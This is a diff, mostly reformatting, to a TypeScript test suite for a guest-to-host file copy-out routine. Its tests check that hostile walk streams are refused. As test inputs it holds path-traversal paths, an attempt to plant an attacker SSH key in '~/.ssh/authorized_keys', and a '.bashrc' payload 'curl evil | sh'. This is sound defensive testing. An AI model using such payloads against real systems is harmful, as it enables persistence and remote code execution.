@@ -14,7 +14,19 @@
 // a folder, their contents, modes, link counts, inode numbers, mtimes and ctimes) must be
 // exactly as it was, nothing may have appeared beside the destination, and no file handle
 // of ours may be left open below either.
-import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  readlinkSync,
+  rmSync,
+  symlinkSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { Readable } from 'node:stream';
 import { join } from 'node:path';
@@ -26,7 +38,15 @@ import { WalkDecoder, type FileType, type WalkEvent } from '../../src/inspect/re
 // ---- the guest's side: walk records as inspect.c writes them ------------------------------
 
 const TYPE_CHAR: Record<FileType, string> = { file: 'f', dir: 'd', symlink: 'l', chardev: 'c', blockdev: 'b', fifo: 'p', socket: 's' };
-const IFMT: Record<FileType, number> = { file: 0o100000, dir: 0o040000, symlink: 0o120000, chardev: 0o020000, blockdev: 0o060000, fifo: 0o010000, socket: 0o140000 };
+const IFMT: Record<FileType, number> = {
+  file: 0o100000,
+  dir: 0o040000,
+  symlink: 0o120000,
+  chardev: 0o020000,
+  blockdev: 0o060000,
+  fifo: 0o010000,
+  socket: 0o140000,
+};
 const TIME = { sec: 1620284889, nsec: 123456789 };
 const END_OF_FILE = 0xffffffffffffffffn;
 
@@ -150,7 +170,13 @@ function snapshot(dir: string): Map<string, string> {
   const out = new Map<string, string>();
   const visit = (p: string) => {
     const s = lstatSync(p, { bigint: true });
-    const what = s.isSymbolicLink() ? `-> ${readlinkSync(p)}` : s.isFile() ? readFileSync(p).toString('hex') : s.isDirectory() ? readdirSync(p).sort().join(',') : '';
+    const what = s.isSymbolicLink()
+      ? `-> ${readlinkSync(p)}`
+      : s.isFile()
+        ? readFileSync(p).toString('hex')
+        : s.isDirectory()
+          ? readdirSync(p).sort().join(',')
+          : '';
     out.set(p, `${s.mode.toString(8)} ${s.nlink} ${s.ino} ${s.size} ${s.mtimeNs} ${s.ctimeNs} ${what}`);
     if (s.isDirectory()) for (const n of readdirSync(p)) visit(join(p, n));
   };
@@ -178,7 +204,7 @@ beforeEach(() => {
   victim = join(base, 'victim');
   mkdirSync(host);
   mkdirSync(join(victim, 'sub'), { recursive: true });
-  writeFileSync(join(victim, 'secret'), 'the host owner\'s secret\n', { mode: 0o600 });
+  writeFileSync(join(victim, 'secret'), "the host owner's secret\n", { mode: 0o600 });
   writeFileSync(join(victim, 'sub', 'config'), 'setting=1\n');
   const old = new Date('2001-02-03T04:05:06Z');
   for (const p of [join(victim, 'secret'), join(victim, 'sub', 'config'), join(victim, 'sub'), victim]) utimesSync(p, old, old);
@@ -266,7 +292,11 @@ describe('a well-formed stream', () => {
     expect(lstatSync(fifo).isFIFO()).toBe(true);
     expect(lstatSync(fifo).mode & 0o7777).toBe(0o620);
     // Nothing else: no temporary name of the FIFO's left behind.
-    expect(readdirSync(Buffer.from(join(host, 'data')), { encoding: 'buffer' }).map((n) => n.toString('latin1')).sort()).toEqual(['b-link', 'caf\xe9', 'fifo', 'link', 'sparse', 'sub']);
+    expect(
+      readdirSync(Buffer.from(join(host, 'data')), { encoding: 'buffer' })
+        .map((n) => n.toString('latin1'))
+        .sort(),
+    ).toEqual(['b-link', 'caf\xe9', 'fifo', 'link', 'sparse', 'sub']);
     expect(readdirSync(host)).toEqual(['data']);
   });
 });
@@ -274,7 +304,19 @@ describe('a well-formed stream', () => {
 // ---- paths: outside the copied path, . and .., folders never sent --------------------------------
 
 describe('every entry lies below the copied path, with no . or .. part', () => {
-  const dotted = ['/data/..', '/data/../escape', '/data/./x', '/data/.', '/data/sub/../../escape', '/data/sub/../../../victim/secret', '/data/../../victim/planted', '/data/sub/../../../victim/sub/planted', '/data/x/..', '/../data/x', '/data/sub/.'];
+  const dotted = [
+    '/data/..',
+    '/data/../escape',
+    '/data/./x',
+    '/data/.',
+    '/data/sub/../../escape',
+    '/data/sub/../../../victim/secret',
+    '/data/../../victim/planted',
+    '/data/sub/../../../victim/sub/planted',
+    '/data/x/..',
+    '/../data/x',
+    '/data/sub/.',
+  ];
   it.each(dotted)('%s', async (path) => {
     await refused(new Walk().dir('/data').dir('/data/sub').file(path, 'pwned\n').events());
     expect(tree()).toEqual(['data/', 'data/sub/']);
@@ -302,7 +344,9 @@ describe('every entry lies below the copied path, with no . or .. part', () => {
     // names /.ssh after /data must not plant ~/.ssh/authorized_keys.
     writeFileSync(join(host, '.profile'), 'mine\n');
     const home = snapshot(host);
-    await refused(new Walk().dir('/data').file('/data/ok', 'fine\n').dir('/.ssh', { mode: 0o700 }).file('/.ssh/authorized_keys', 'ssh-ed25519 AAAA attacker\n').events());
+    await refused(
+      new Walk().dir('/data').file('/data/ok', 'fine\n').dir('/.ssh', { mode: 0o700 }).file('/.ssh/authorized_keys', 'ssh-ed25519 AAAA attacker\n').events(),
+    );
     expect(existsSync(join(host, '.ssh'))).toBe(false);
     await refused(new Walk().file('/.bashrc', 'curl evil | sh\n').events(), 'EPROTO', '/data/');
     await refused(new Walk().dir('/datax').file('/datax/y', 'a name that starts like the copied one\n').events());
@@ -411,7 +455,10 @@ describe('a hard link points only at a file this copy made', () => {
         .events(),
     );
     expect(r).toMatchObject({ files: 2, hardlinks: 0, symlinks: 1 });
-    for (const [n, c] of [['h1', 'one\n'], ['h2', 'two\n']]) {
+    for (const [n, c] of [
+      ['h1', 'one\n'],
+      ['h2', 'two\n'],
+    ]) {
       expect(lstatSync(join(host, 'data', n!)).isFile()).toBe(true);
       expect(lstatSync(join(host, 'data', n!)).nlink).toBe(1);
       expect(readFileSync(join(host, 'data', n!), 'utf8')).toBe(c);
@@ -419,7 +466,9 @@ describe('a hard link points only at a file this copy made', () => {
   });
 
   it("a hard link's data never rewrites the file it links to", async () => {
-    const r = await outcome(new Walk().dir('/data').file('/data/a', 'original\n', { ino: 5, nlink: 2 }).file('/data/b', 'REWRITTEN\n', { ino: 5, nlink: 2 }).events());
+    const r = await outcome(
+      new Walk().dir('/data').file('/data/a', 'original\n', { ino: 5, nlink: 2 }).file('/data/b', 'REWRITTEN\n', { ino: 5, nlink: 2 }).events(),
+    );
     expect(r).toMatchObject({ files: 1, hardlinks: 1, bytes: 9 });
     expect(readFileSync(join(host, 'data/a'), 'utf8')).toBe('original\n');
   });
@@ -433,14 +482,24 @@ describe('a large file read apart (deferred by the walk) is held to what the wal
     (path: string | Buffer): Readable => {
       asked.push(String(path));
       const v = files[String(path)];
-      if (v instanceof Error) return new Readable({ read() { this.destroy(v); } });
+      if (v instanceof Error)
+        return new Readable({
+          read() {
+            this.destroy(v);
+          },
+        });
       return Readable.from(v === undefined ? [] : [v.subarray(0, 3), v.subarray(3)]);
     };
   const big = Buffer.alloc(5000, 7);
 
   it('is copied after the walk, its hard link too, each read once', async () => {
     const asked: string[] = [];
-    const walk = new Walk().dir('/data').entry('/data/big', 'file', { size: big.length, nlink: 2, ino: 77 }).deferred().entry('/data/twin', 'file', { size: big.length, nlink: 2, ino: 77 }).end();
+    const walk = new Walk()
+      .dir('/data')
+      .entry('/data/big', 'file', { size: big.length, nlink: 2, ino: 77 })
+      .deferred()
+      .entry('/data/twin', 'file', { size: big.length, nlink: 2, ino: 77 })
+      .end();
     const r = await copyOut(walk.events(), '/data', host, {}, fetchOf({ '/data/big': big }, asked));
     expect(r).toMatchObject({ files: 1, hardlinks: 1, bytes: big.length, skipped: [] });
     expect(readFileSync(join(host, 'data/big'))).toEqual(big);
@@ -482,15 +541,41 @@ describe('a large file read apart (deferred by the walk) is held to what the wal
 });
 
 describe('file data comes only inside a file, within its size', () => {
-  const stat = { path: '/data/f', type: 'file' as const, mode: 0o644, uid: 0, gid: 0, nlink: 1, size: 4, allocated: 4096, ino: 1, atime: 0, mtime: 0, ctime: 0 };
+  const stat = {
+    path: '/data/f',
+    type: 'file' as const,
+    mode: 0o644,
+    uid: 0,
+    gid: 0,
+    nlink: 1,
+    size: 4,
+    allocated: 4096,
+    ino: 1,
+    atime: 0,
+    mtime: 0,
+    ctime: 0,
+  };
   const dir = { ...stat, path: '/data', type: 'dir' as const, mode: 0o755 };
 
   it('data before any file, after a file ended, and an end outside a file', async () => {
     await refused(raw([{ kind: 'data', offset: 0, bytes: Buffer.from('pwned') }]));
-    await refused(raw([{ kind: 'entry', stat: dir }, { kind: 'entry', stat }, { kind: 'data', offset: 0, bytes: Buffer.from('abcd') }, { kind: 'end', errno: 0 }, { kind: 'data', offset: 0, bytes: Buffer.from('pwnd') }]));
+    await refused(
+      raw([
+        { kind: 'entry', stat: dir },
+        { kind: 'entry', stat },
+        { kind: 'data', offset: 0, bytes: Buffer.from('abcd') },
+        { kind: 'end', errno: 0 },
+        { kind: 'data', offset: 0, bytes: Buffer.from('pwnd') },
+      ]),
+    );
     expect(readFileSync(join(host, 'data/f'), 'utf8')).toBe('abcd');
     clear();
-    await refused(raw([{ kind: 'entry', stat: dir }, { kind: 'end', errno: 0 }]));
+    await refused(
+      raw([
+        { kind: 'entry', stat: dir },
+        { kind: 'end', errno: 0 },
+      ]),
+    );
     clear();
     // Between entries, the decoder reads data as a record: a malformed stream.
     await refused(new Walk().dir('/data').data(0, 'pwned').events());
@@ -498,7 +583,12 @@ describe('file data comes only inside a file, within its size', () => {
 
   it('data past the size, or straddling it', async () => {
     // inspect.c sends extents found by SEEK_DATA/SEEK_HOLE below st_size: anything past it is a lie.
-    for (const [size, offset, bytes] of [[10, 100, 'evil'], [10, 8, 'evil'], [0, 0, 'x'], [2 ** 40, 2 ** 41, 'far']] as const) {
+    for (const [size, offset, bytes] of [
+      [10, 100, 'evil'],
+      [10, 8, 'evil'],
+      [0, 0, 'x'],
+      [2 ** 40, 2 ** 41, 'far'],
+    ] as const) {
       clear();
       await refused(new Walk().dir('/data').entry('/data/f', 'file', { size }).data(offset, bytes).end().events());
       expect(tree()).toEqual(['data/', 'data/f']);
@@ -507,7 +597,14 @@ describe('file data comes only inside a file, within its size', () => {
   });
 
   it('an offset near 2^64 (not a safe integer once decoded): refused before any write', async () => {
-    await refused(new Walk().dir('/data').entry('/data/f', 'file', { size: 10 }).data(END_OF_FILE - 1n, 'evil').end().events());
+    await refused(
+      new Walk()
+        .dir('/data')
+        .entry('/data/f', 'file', { size: 10 })
+        .data(END_OF_FILE - 1n, 'evil')
+        .end()
+        .events(),
+    );
     expect(lstatSync(join(host, 'data/f')).size).toBe(0);
   });
 
@@ -516,7 +613,14 @@ describe('file data comes only inside a file, within its size', () => {
     // is copied as it is, sparse, written at its offset (never buffered).
     const size = 2 ** 40;
     const rss = process.memoryUsage().rss;
-    const r = await outcome(new Walk().dir('/data').entry('/data/huge', 'file', { size }).data(size - 4, 'tail').end().events());
+    const r = await outcome(
+      new Walk()
+        .dir('/data')
+        .entry('/data/huge', 'file', { size })
+        .data(size - 4, 'tail')
+        .end()
+        .events(),
+    );
     expect(r).toMatchObject({ files: 1, bytes: 4 });
     const s = lstatSync(join(host, 'data/huge'));
     expect(s.size).toBe(size);
@@ -536,7 +640,13 @@ describe('file data comes only inside a file, within its size', () => {
   });
 
   it('a stream that ends inside a file: EPROTO, and the file handle is closed', async () => {
-    await refused(raw([{ kind: 'entry', stat: dir }, { kind: 'entry', stat }, { kind: 'data', offset: 0, bytes: Buffer.from('ab') }]));
+    await refused(
+      raw([
+        { kind: 'entry', stat: dir },
+        { kind: 'entry', stat },
+        { kind: 'data', offset: 0, bytes: Buffer.from('ab') },
+      ]),
+    );
     rmSync(join(host, 'data'), { recursive: true });
     // The same cut as the decoder sees it (helper.walk's end check throws inside the loop).
     await refused(new Walk().dir('/data').entry('/data/f', 'file', { size: 4 }).data(0, 'ab').events());
@@ -544,7 +654,13 @@ describe('file data comes only inside a file, within its size', () => {
   });
 
   it('an entry inside a file: EPROTO, and the file handle is closed', async () => {
-    await refused(raw([{ kind: 'entry', stat: dir }, { kind: 'entry', stat }, { kind: 'entry', stat: { ...stat, path: '/data/g' } }]));
+    await refused(
+      raw([
+        { kind: 'entry', stat: dir },
+        { kind: 'entry', stat },
+        { kind: 'entry', stat: { ...stat, path: '/data/g' } },
+      ]),
+    );
     expect(openBelow(base)).toEqual([]);
   });
 });
@@ -565,7 +681,13 @@ describe('names', () => {
   });
 
   it('a name longer than the host allows: its errno, not a raw error', async () => {
-    await refused(new Walk().dir('/data').file(`/data/${'n'.repeat(300)}`, 'long\n').events(), 'ENAMETOOLONG');
+    await refused(
+      new Walk()
+        .dir('/data')
+        .file(`/data/${'n'.repeat(300)}`, 'long\n')
+        .events(),
+      'ENAMETOOLONG',
+    );
   });
 });
 
@@ -586,7 +708,10 @@ describe('nothing that was in the destination is written', () => {
   });
 
   it('a destination that is not there, or is a file: ENOENT or ENOTDIR before anything is read or made', async () => {
-    for (const [dest, code] of [[join(host, 'missing'), 'ENOENT'], [join(host, 'a-file'), 'ENOTDIR']] as const) {
+    for (const [dest, code] of [
+      [join(host, 'missing'), 'ENOENT'],
+      [join(host, 'a-file'), 'ENOTDIR'],
+    ] as const) {
       if (code === 'ENOTDIR') mine(dest);
       const s = snapshot(host);
       for (const source of ['/', '/data']) {
@@ -679,7 +804,13 @@ describe('devices, sockets and set-id bits', () => {
     // Documented (SECURITY.md 7): device nodes and owners are made only as root. Like
     // virt-copy-out (tar as root), a copy of /dev/sda's node is a node for the host's own
     // disk: copy into a folder only you can enter, or onto a nodev mount.
-    const r = await outcome(new Walk().dir('/data').entry('/data/null', 'chardev', { mode: 0o600, rdev: [1, 3], uid: 1234 }).entry('/data/sock', 'socket').events());
+    const r = await outcome(
+      new Walk()
+        .dir('/data')
+        .entry('/data/null', 'chardev', { mode: 0o600, rdev: [1, 3], uid: 1234 })
+        .entry('/data/sock', 'socket')
+        .events(),
+    );
     expect((r as CopyOutResult).skipped).toEqual([`${join(host, 'data/sock')}: a socket`]);
     const s = lstatSync(join(host, 'data/null'));
     expect(s.isCharacterDevice()).toBe(true);
@@ -712,10 +843,15 @@ describe('devices, sockets and set-id bits', () => {
 
   it('a FIFO or device in a folder whose name is not UTF-8 is made there (its temporary name is not)', async () => {
     const dir = Buffer.from('/data/d\xe9j\xe0', 'latin1');
-    const r = await outcome(new Walk().dir('/data').dir(dir).entry(Buffer.concat([dir, Buffer.from('/fifo')]), 'fifo').events());
+    const r = await outcome(
+      new Walk()
+        .dir('/data')
+        .dir(dir)
+        .entry(Buffer.concat([dir, Buffer.from('/fifo')]), 'fifo')
+        .events(),
+    );
     expect(r).not.toBeInstanceOf(Error);
     expect(lstatSync(Buffer.concat([Buffer.from(host), dir, Buffer.from('/fifo')])).isFIFO()).toBe(true);
     expect(readdirSync(join(host, 'data'), { encoding: 'buffer' }).map((n) => n.toString('latin1'))).toEqual(['d\xe9j\xe0']);
   });
 });
-
